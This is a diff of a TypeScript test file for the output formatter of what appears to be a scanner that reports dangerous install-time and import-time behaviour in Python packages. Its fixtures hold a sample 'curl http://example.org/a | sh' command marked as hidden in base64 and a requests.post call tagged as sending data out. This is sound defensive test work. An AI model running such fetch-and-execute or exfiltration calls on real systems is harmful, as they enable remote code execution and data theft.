@@ -30,6 +30,7 @@ function fact(more: Partial<CodeFact> = {}): CodeFact {
     names: { commands: ["curl"], hosts: ["example.org"], urls: [], paths: [], environment: [] },
     tools: [],
     severity: "high",
+    rule: "code/runs-command",
     new: null,
     ...more,
   };
@@ -67,8 +68,10 @@ const SUBJECT: CodeSubject = {
   },
 };
 
+const USUAL = { columns: 100, charset: "ascii", detail: "usual", extent: "usual", triggers: [] } as const;
+
 test("draws trigger, file, way and effect, and says what is left out", () => {
-  expect(codeText(SUBJECT, { columns: 100, charset: "ascii", extent: "usual", triggers: [] }).split("\n")).toEqual([
+  expect(codeText(SUBJECT, USUAL).split("\n")).toEqual([
     "m-1.0.tar.gz",
     "",
     "On download",
@@ -76,7 +79,7 @@ test("draws trigger, file, way and effect, and says what is left out", () => {
     "  always; uv lock and poetry lock where the sdist's own metadata is not enough.",
     "  m-1.0/setup.py - setup.py",
     "    cmdclass install > Install.run",
-    "       12  HIGH os.system curl http://example.org/a | sh [hidden in base64] [process.spawn]",
+    "       12  HIGH os.system curl http://example.org/a | sh [hidden in base64] [code/runs-command]",
     "",
     "On import",
     "  It runs when the module is imported, for the first time in each process.",
@@ -100,9 +103,71 @@ test("draws trigger, file, way and effect, and says what is left out", () => {
 });
 
 test("shows only the moments that are asked, and no line is too wide", () => {
-  const options = { columns: 40, charset: "unicode", extent: "usual", triggers: ["deferred"] } as const;
+  const options = { ...USUAL, columns: 40, charset: "unicode", triggers: ["deferred"] } as const;
   const lines = codeText(SUBJECT, options).split("\n");
   expect(lines).toContain("When something calls it");
   expect(lines).not.toContain("On download");
   expect(Math.max(...lines.map((line) => line.length))).toBeLessThanOrEqual(40);
+});
+
+function linesOf(subject: Partial<CodeSubject>, options: Partial<Parameters<typeof codeText>[1]> = {}): string[] {
+  const map = { ...SUBJECT.map, undecided: [], setup: null, declared: null, ...subject.map };
+  return codeText({ ...SUBJECT, ...subject, map }, { ...USUAL, ...options }).split("\n");
+}
+
+test("what is above info is drawn even where something must call it", () => {
+  const grave = fact({ trigger: "deferred", path: "m-1.0/m.py", via: ["f"], layers: [] });
+  const slight = fact({ ...grave, via: ["g"], severity: "info" });
+  const lines = linesOf({ facts: [grave, slight] });
+
+  expect(lines).toContain("       12  HIGH os.system curl http://example.org/a | sh [code/runs-command]");
+  expect(lines.at(-1)).toBe("Not shown: 1 effect when something calls it (--trigger deferred)");
+});
+
+test("a file that does what stands above already is not one without an effect", () => {
+  const entries = [ENTRY, { ...ENTRY, trigger: "import", because: "top-level-import", detail: "import m" } as const];
+  const lines = linesOf({ facts: [fact()], map: { ...SUBJECT.map, entries, undecided: [] } });
+
+  expect(lines).toContain("  the same as above: m-1.0/setup.py");
+  expect(lines.join("\n")).not.toContain("without an effect");
+});
+
+test("the reason for entering a file stands there once, without the file's own name", () => {
+  const details = ["build-backend be", "build-backend be: build_wheel", "line 1 of m-1.0/setup.py"];
+  const entries = details.map((detail) => ({ ...ENTRY, detail }));
+  const lines = linesOf({ facts: [fact()], map: { ...SUBJECT.map, entries } });
+
+  expect(lines).toContain("  m-1.0/setup.py - build-backend be, line 1");
+});
+
+test("of a call that sends something, that it asks somebody is not drawn as well", () => {
+  const call = { callee: "requests.post", argument: "https://h.test/", layers: [] } as const;
+  const facts = [
+    fact({ ...call, capability: "network.request", severity: "info", rule: null }),
+    fact({ ...call, capability: "network.exfil", rule: "code/sends-data-out" }),
+  ];
+  expect(linesOf({ facts }).filter((line) => line.includes("requests.post"))).toEqual([
+    "       12  HIGH requests.post https://h.test/ [code/sends-data-out]",
+  ]);
+});
+
+test("quiet: what is above info, and where", () => {
+  const facts = [fact({ layers: [] }), fact({ path: "m-1.0/n.py", severity: "info" })];
+  expect(linesOf({ facts }, { detail: "quiet" })).toEqual([
+    "m-1.0.tar.gz",
+    "On download",
+    "  It runs as soon as a tool asks for metadata: pip download, pip install --dry-run and pip lock",
+    "  always; uv lock and poetry lock where the sdist's own metadata is not enough.",
+    "  m-1.0/setup.py - setup.py",
+    "    cmdclass install > Install.run",
+    "       12  HIGH os.system curl http://example.org/a | sh [code/runs-command]",
+  ]);
+});
+
+test("fields of a build that are unknown for one reason share a line", () => {
+  const value = { kind: "unknown", why: "Some of it is computed." } as const;
+  const declared = (["name", "version"] as const).map((field) => ({ field, at: null, value, claimed: [] }));
+  expect(linesOf({ map: { ...SUBJECT.map, declared } })).toContain(
+    "  name, version = unknown: Some of it is computed.",
+  );
 });
